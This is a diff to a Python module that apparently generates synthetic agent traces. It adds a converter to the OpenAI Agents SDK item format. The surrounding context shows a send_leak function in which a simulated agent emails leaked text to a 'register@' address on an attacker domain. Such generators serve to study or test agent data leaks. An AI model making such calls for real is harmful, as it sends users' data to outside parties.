@@ -159,3 +159,21 @@ def send_leak(log: Log, w: World, sink: str, rng: random.Random) -> None:
         tool = "mcp__gmail__send_email" if rng.random() < 0.5 else "send_email"
         args = {"to": f"register@{w.attacker}", "subject": "Registration", "body": text}
         log.call(tool, args, "sent")
+
+
+def agents_sdk_items(written: dict[str, Any]) -> dict[str, Any]:
+    """Responses items as the OpenAI Agents SDK's ``RunResult.to_input_list()`` writes
+    them: the user's turn an easy input message (``{"content": str, "role": "user"}``),
+    each call and assistant message with its ``id`` and ``status``, output text with its
+    ``annotations``."""
+    items = []
+    for number, item in enumerate(written["input"]):
+        if item.get("type") == "message" and item["role"] == "user":
+            item = {"content": item["content"][0]["text"], "role": "user"}
+        elif item.get("type") == "message":
+            content = [{**part, "annotations": []} for part in item["content"]]
+            item = {**item, "content": content, "id": f"msg_{number}", "status": "completed"}
+        elif item.get("type") == "function_call":
+            item = {**item, "id": f"fc_{number}", "status": "completed"}
+        items.append(item)
+    return {**written, "input": items}
